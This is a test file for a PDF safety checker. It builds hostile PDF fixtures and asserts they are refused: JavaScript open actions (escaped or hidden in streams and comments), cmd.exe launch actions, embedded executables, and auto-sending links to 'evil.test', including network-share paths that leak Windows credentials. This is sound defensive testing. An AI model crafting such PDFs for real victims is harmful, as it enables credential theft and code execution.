import { describe, expect, it } from 'vitest';
import { execFile } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { promisify } from 'node:util';
import { withFileAsync } from '../test/support/open-bytes.js';
import { pdf, pdfOfSize } from '@verdalia/test-files/fixtures';
import { objectStream } from '@verdalia/test-files/hostile-files';
import { indexedPdf } from '@verdalia/test-files/pdf-files';
import { checkPdf } from './pdf-check.js';

const run = promisify(execFile);
const check = (bytes: Buffer) => withFileAsync(bytes, (file, path) => checkPdf(path, file.size));
/** A PDF around the objects (a catalog first), written byte for byte (compressed data is latin1). */
const withObjects = (objects: string, catalog = '') =>
  Buffer.from(
    `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalog}>>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n${objects}\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`,
    'latin1',
  );
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const opening = (action: string) =>
  withObjects(`4 0 obj\n${action}\nendobj\n`, '/OpenAction 4 0 R');

describe('checkPdf: damage readers repair is no reason to refuse', async () => {
  it('accepts the small PDFs the other tests send, and a 20 MiB one', async () => {
    await expect(check(pdf())).resolves.toBeUndefined();
    await expect(check(pdfOfSize(20 * 1024 * 1024))).resolves.toBeUndefined();
  });

  it('accepts a file with no index, a wrong /Length, no %%EOF, junk after the end', async () => {
    const damaged = Buffer.from(
      '%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n3 0 obj << /Type /Page /Contents 4 0 R >> endobj\n4 0 obj << /Length 999 >> stream\nBT ET\nendstream endobj\ntrailer << /Root 1 0 R >>\nstartxref 123456\n\0\0\0 junk',
      'latin1',
    );
    await expect(check(damaged)).resolves.toBeUndefined();
  });

  it('reads a stream whose /Length is an object inside an object stream (pdfTeX)', async () => {
    const file = indexedPdf(
      {
        1: '<< /Type /Catalog /Pages 2 0 R >>',
        3: '<< /Type /Page /Parent 2 0 R /Contents 5 0 R >>',
        5: '<< /Length 7 0 R >>\nstream\nBT ET\nendstream',
      },
      { 2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', 7: '5' },
    );
    await expect(check(file)).resolves.toBeUndefined();
  });

  it('accepts links, ordinary forms, moving within the document on opening, and an empty /EmbeddedFiles tree', async () => {
    const link =
      '<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://verdalia.example/) >> >>';
    await expect(check(withObjects(`4 0 obj\n${link}\nendobj\n`))).resolves.toBeUndefined();
    await expect(check(opening('<< /S /GoTo /D [3 0 R /Fit] >>'))).resolves.toBeUndefined();
    await expect(
      check(withObjects('', '/OpenAction [3 0 R /XYZ 0 792 0]')),
    ).resolves.toBeUndefined();
    await expect(
      check(withObjects('', '/Names << /EmbeddedFiles << /Names [] >> >>')),
    ).resolves.toBeUndefined();
    const submit =
      '<< /Type /Annot /Subtype /Widget /A << /S /SubmitForm /F (https://forms.example/) >> >>';
    await expect(
      check(withObjects(`4 0 obj\n${submit}\nendobj\n`, '/AcroForm << /Fields [4 0 R] >>')),
    ).resolves.toBeUndefined();
  });
});

describe('checkPdf: active content wherever a reader could find it', async () => {
  it('refuses JavaScript, also #xx-escaped and inside a deflated object stream', async () => {
    await expect(check(opening(script))).rejects.toThrow(/JavaScript/);
    await expect(check(opening('<< /S /J#61va#53cript /J#53 (x) >>'))).rejects.toThrow(
      /JavaScript/,
    );
    await expect(
      check(
        indexedPdf(
          { 1: '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>' },
          { 2: '<< /Type /Pages /Kids [] /Count 0 >>', 4: script },
        ),
      ),
    ).rejects.toThrow(/JavaScript/);
  });

  it('refuses an object the index sends a reader to, inside a comment or a string', async () => {
    const hidden = (wrapper: (object: string) => string) => {
      const file = indexedPdf({
        1: '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
        2: '<< /Type /Pages /Kids [] /Count 0 >>',
        3: wrapper(`4 0 obj ${script} endobj`),
      });
      // Point the index's entry for object 4 at the copy inside object 3.
      const text = file.toString('latin1');
      const at = text.indexOf('4 0 obj');
      const xref = text.lastIndexOf('>>\nstream\n') + '>>\nstream\n'.length;
      const bytes = Buffer.from(file);
      bytes.writeUInt8(1, xref + 4 * 7);
      bytes.writeUInt32BE(at, xref + 4 * 7 + 1);
      return bytes;
    };
    await expect(check(hidden((object) => `(${object})`))).rejects.toThrow(/JavaScript/);
    await expect(check(hidden((object) => `[ 0 ]\n% ${object}`))).rejects.toThrow(/JavaScript/);
  });

  it('refuses embedded files however referenced: /EF, a file attachment annotation, /AF, a name tree', async () => {
    const attachment =
      '<< /Type /Annot /Subtype /FileAttachment /FS << /Type /Filespec /F (f.exe) >> >>';
    await expect(check(withObjects(`4 0 obj\n${attachment}\nendobj\n`))).rejects.toThrow(
      /file attachment/,
    );
    await expect(
      check(
        withObjects(
          '4 0 obj\n<< /F (f.exe) /EF << /F 5 0 R >> >>\nendobj\n5 0 obj\n<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream\nendobj\n',
        ),
      ),
    ).rejects.toThrow(/embedded file/);
    await expect(check(withObjects('', '/AF [4 0 R]'))).rejects.toThrow(/associated/);
    await expect(
      check(withObjects('', '/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>')),
    ).rejects.toThrow(/embedded file/);
  });

  it('refuses launch actions, Rich Media and XFA forms', async () => {
    await expect(check(opening('<< /S /Launch /Win << /F (cmd.exe) >> >>'))).rejects.toThrow(
      /launch/,
    );
    await expect(
      check(withObjects('4 0 obj\n<< /Type /Annot /Subtype /RichMedia >>\nendobj\n')),
    ).rejects.toThrow(/Rich Media/);
    await expect(
      check(
        withObjects(
          '4 0 obj\n[(template) 5 0 R]\nendobj\n',
          '/AcroForm << /Fields [] /XFA 4 0 R >>',
        ),
      ),
    ).rejects.toThrow(/XFA/);
  });

  it('refuses an action that fetches or sends by itself, on opening or on a page event', async () => {
    await expect(
      check(opening('<< /S /GoToR /F (\\\\\\\\evil.test\\\\share\\\\a.pdf) /D [0 /Fit] >>')),
    ).rejects.toThrow(/GoToR/);
    await expect(check(opening('<< /S /SubmitForm /F (https://evil.test/) >>'))).rejects.toThrow(
      /SubmitForm/,
    );
    await expect(check(opening('<< /S /ImportData /F (data.fdf) >>'))).rejects.toThrow(
      /ImportData/,
    );
    await expect(check(opening('<< /S /URI /URI (https://evil.test/pixel) >>'))).rejects.toThrow(
      /URI/,
    );
    await expect(
      check(opening('<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://e.test/) >> >>')),
    ).rejects.toThrow(/URI/);
    const page =
      '3 0 obj\n<< /Type /Page /AA << /O << /S /URI /URI (https://evil.test/) >> >> >>\nendobj\n';
    await expect(check(withObjects(page))).rejects.toThrow(/URI/);
  });

  it('refuses a clicked action that reaches a network share (it leaks Windows credentials)', async () => {
    const link = '<< /Subtype /Link /A << /S /GoToR /F (//evil.test/share/a.pdf) /D [0 /Fit] >> >>';
    await expect(check(withObjects(`4 0 obj\n${link}\nendobj\n`))).rejects.toThrow(/network|GoToR/);
  });

  it('takes a root its trailer names as a document, even without pages', async () => {
    const stub = Buffer.from(
      '%PDF-1.4\n1 0 obj\n<< /Title (x) >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n',
    );
    await expect(check(stub)).resolves.toBeUndefined();
    await expect(
      check(Buffer.from('%PDF-1.4\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n')),
    ).rejects.toThrow(/not a PDF a reader opens/);
  });

  it('refuses what is not a PDF a reader opens: a web page between %PDF and %%EOF', async () => {
    const page = Buffer.from(
      '%PDF-1.4\n<html><script>location="https://evil.test/"</script></html>\n%%EOF\n',
    );
    await expect(check(page)).rejects.toThrow(/not a PDF a reader opens/);
  });

  it('refuses a damaged file whose object streams no index lists (repairing readers differ there)', async () => {
    await expect(
      check(withObjects(`9 0 obj\n${objectStream({ 4: '<< /Type /Page >>' })}\nendobj\n`)),
    ).rejects.toThrow(/object streams no index lists/);
  });

  it('refuses, within a bound of its size, a file whose objects nest inside each other by the thousand', async () => {
    const nested = '1 0 obj [ '.repeat(200_000);
    await expect(check(withObjects(nested))).rejects.toThrow(/not a PDF a reader opens/);
  });
});

describe('checkPdf: what readers find that a hand-written scanner missed', () => {
  const catalog = (extra = '') => `<< /Type /Catalog /Pages 2 0 R ${extra}>>`;
  const pages = '<< /Type /Pages /Kids [] /Count 0 >>';

  it('finds objects whatever white space or comments stand in their header', async () => {
    const top = { 1: catalog('/OpenAction 4 0 R'), 2: pages, 4: script };
    const headers = [
      (n: number) => (n === 4 ? `${n} 0 % a comment\nobj` : `${n} 0 obj`),
      (n: number) => (n === 4 ? `${n} 0obj` : `${n} 0 obj`),
      (n: number) => (n === 4 ? `${n} 0${' '.repeat(5000)}obj` : `${n} 0 obj`),
    ];
    for (const header of headers) {
      // qpdf 11 reads `4 0obj` no more than the old scanner did; other readers do: refused.
      await expect(check(indexedPdf(top, {}, { header }))).rejects.toThrow(
        /JavaScript|an object this check cannot read/,
      );
    }
  });

  it('reads object streams whose /N or /First is a reference, and undoes their predictor', async () => {
    const top = { 1: catalog('/OpenAction 4 0 R'), 50: '1' };
    const members = { 2: pages, 4: script };
    const byReference = () => '/N 52 0 R /First 53 0 R';
    await expect(
      check(
        indexedPdf({ ...top, 52: '2', 53: String('2 0 4 40 '.length) }, members, {
          counts: byReference,
        }),
      ),
    ).rejects.toThrow(/JavaScript/);
    await expect(check(indexedPdf(top, members, { predictor: true }))).rejects.toThrow(
      /JavaScript/,
    );
  });

  it('resolves an action type given by reference: Launch on opening, URI fetched on opening, SubmitForm on a page event', async () => {
    const byReference = (action: string, rest: string, where: 'open' | 'page') =>
      indexedPdf({
        1: catalog(where === 'open' ? '/OpenAction 4 0 R' : ''),
        2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        3: `<< /Type /Page /Parent 2 0 R ${where === 'page' ? '/AA << /O 4 0 R >>' : ''} >>`,
        4: `<< /S 6 0 R ${rest} >>`,
        6: `/${action}`,
      });
    await expect(check(byReference('Launch', '/F (cmd.exe)', 'open'))).rejects.toThrow(/launch/);
    await expect(check(byReference('URI', '/URI (https://evil.test/)', 'open'))).rejects.toThrow(
      /URI/,
    );
    await expect(
      check(byReference('SubmitForm', '/F (https://evil.test/)', 'page')),
    ).rejects.toThrow(/SubmitForm/);
  });

  it('refuses links and file actions that reach a network share, however the path is written', async () => {
    const link = (action: string) =>
      indexedPdf({ 1: catalog(), 2: pages, 4: `<< /Type /Annot /Subtype /Link /A ${action} >>` });
    const utf16 = Buffer.from('\ufeff\\\\evil.test\\share\\a.pdf', 'utf16le')
      .swap16()
      .toString('hex');
    for (const action of [
      '<< /S /URI /URI (file://evil.test/share/a.pdf) >>',
      '<< /S /URI /URI (\\\\\\\\evil.test\\\\share) >>',
      '<< /S /URI /URI (file:%2F%2Fevil.test/share) >>',
      '<< /S /GoToR /F (file:////evil.test/share/a.pdf) /D [0 /Fit] >>',
      '<< /S /GoToR /F (\\\\/evil.test/share/a.pdf) /D [0 /Fit] >>',
      `<< /S /GoToR /F << /Type /Filespec /UF <${utf16}> >> /D [0 /Fit] >>`,
    ]) {
      await expect(check(link(action)), action).rejects.toThrow(/reaches/);
    }
    for (const action of [
      '<< /S /URI /URI (https://verdalia.example/) >>',
      '<< /S /GoToR /F (C:/reports/a.pdf) /D [0 /Fit] >>',
      '<< /S /GoToR /F (annex.pdf) /D [0 /Fit] >>',
    ]) {
      await expect(check(link(action)), action).resolves.toBeUndefined();
    }
  });

  it('reads a file encrypted with an empty user password (RC4) as readers do: decrypted', async () => {
    const plain = indexedPdf({
      1: catalog(),
      2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      3: '<< /Type /Page /Parent 2 0 R /Annots [4 0 R] >>',
      4: '<< /Type /Annot /Subtype /Link /A << /S /GoToR /F (\\\\\\\\evil.test\\\\share\\\\a.pdf) /D [0 /Fit] >> >>',
    });
    const encrypted = await withFileAsync(plain, async (_file, input) => {
      const output = `${input}.encrypted`;
      await run('qpdf', [
        '--allow-weak-crypto',
        '--encrypt',
        '',
        'owner',
        '128',
        '--use-aes=n',
        '--',
        input,
        output,
      ]);
      return readFileSync(output);
    });
    expect(encrypted.toString('latin1')).not.toContain('evil.test');
    await expect(check(encrypted)).rejects.toThrow(/reaches/);
  });

  it('refuses a 3D stream that carries /OnInstantiate JavaScript', async () => {
    const file = indexedPdf({
      1: catalog(),
      2: pages,
      4: '<< /Type /Annot /Subtype /3D /3DD 5 0 R >>',
      5: '<< /Type /3D /Subtype /U3D /OnInstantiate 6 0 R /Length 4 >>\nstream\nU3D\0\nendstream',
      6: '<< /Length 10 >>\nstream\napp.alert()\nendstream',
    });
    await expect(check(file)).rejects.toThrow(/JavaScript/);
  });
});

describe('checkPdf: what qpdf cannot read is not taken as nothing', () => {
  const catalog = (extra = '') => `<< /Type /Catalog /Pages 2 0 R ${extra}>>`;
  const pages = '<< /Type /Pages /Kids [] /Count 0 >>';

  it('refuses data nested deeper than qpdf keeps (a /Next chain 600 deep ending in a script)', async () => {
    const chain = '<< /S /GoTo /D [0 /Fit] /Next '.repeat(600) + script + ' >>'.repeat(600);
    const file = indexedPdf({
      1: catalog(),
      2: pages,
      4: `<< /Type /Annot /Subtype /Link /A ${chain} >>`,
    });
    await expect(check(file)).rejects.toThrow(/cannot read|nest deeper/);
  });

  it('reads every warning qpdf writes, however many come before the one that matters', async () => {
    const noisy: Record<number, string> = { 1: catalog('/OpenAction 5000 0 R'), 2: pages };
    for (let number = 10; number < 1510; number += 1) noisy[number] = '<< /I 1 /I 2 >>';
    noisy[5000] = script;
    const header = (n: number) => (n === 5000 ? `${n} 0obj` : `${n} 0 obj`);
    await expect(check(indexedPdf(noisy, {}, { header }))).rejects.toThrow(
      /an object this check cannot read/,
    );
  });

  it('takes a stream as something, whatever its dictionary holds (an XFA form in a stream with no /Length)', async () => {
    const file = indexedPdf({
      1: catalog('/AcroForm << /Fields [] /XFA 3 0 R >>'),
      2: pages,
      3: '<< >>\nstream\n<xdp:xdp/>\nendstream',
    });
    await expect(check(file)).rejects.toThrow(/XFA/);
  });

  it('reads the reals PDFs write and JSON does not (5. +1.5 .5 -.5 01.5)', async () => {
    const file = indexedPdf({
      1: catalog(),
      2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612. 792.] /UserUnit +1.5 /Rotate 0 /Dur .5 /X -.5 /Y 01.5 >>',
    });
    await expect(check(file)).resolves.toBeUndefined();
  });

  it('judges a link base, a thread action and addresses with tabs or localhost in front', async () => {
    const link = (action: string, extra = '') =>
      indexedPdf({
        1: catalog(extra),
        2: pages,
        4: `<< /Type /Annot /Subtype /Link /A ${action} >>`,
      });
    const relative = '<< /S /URI /URI (report.pdf) >>';
    await expect(
      check(link(relative, '/URI << /Base (file://evil.test/share/) >>')),
    ).rejects.toThrow(/resolve against/);
    await expect(
      check(link(relative, '/URI << /Base (https://verdalia.example/) >>')),
    ).resolves.toBeUndefined();
    for (const action of [
      '<< /S /Thread /F (\\\\\\\\evil.test\\\\share\\\\t.pdf) /D 0 >>',
      '<< /S /URI /URI (file://localhost/\\\\\\\\evil.test\\\\share) >>',
      '<< /S /URI /URI (\\\\\\\\ev\til.test\\\\share) >>',
    ]) {
      await expect(check(link(action)), action).rejects.toThrow(/reaches/);
    }
  });
});
